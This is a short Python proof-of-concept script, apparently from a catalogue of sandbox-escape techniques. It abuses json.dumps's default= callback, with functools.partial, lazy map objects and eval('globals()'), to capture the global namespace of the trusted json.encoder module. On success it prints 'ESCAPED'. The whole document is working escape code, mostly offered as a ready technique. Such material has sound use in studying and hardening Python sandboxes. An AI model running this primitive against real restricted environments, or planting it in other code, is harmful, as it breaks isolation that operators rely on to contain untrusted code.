# technique: json.dumps(default=): called by the C encoder below json.encoder
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import json
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))
try:
    json.dumps(object(), default=peek)
except (TypeError, ValueError):
    pass
if kept[0]['__name__'] == 'json.encoder':
    print('ESCAPED globals of json.encoder')
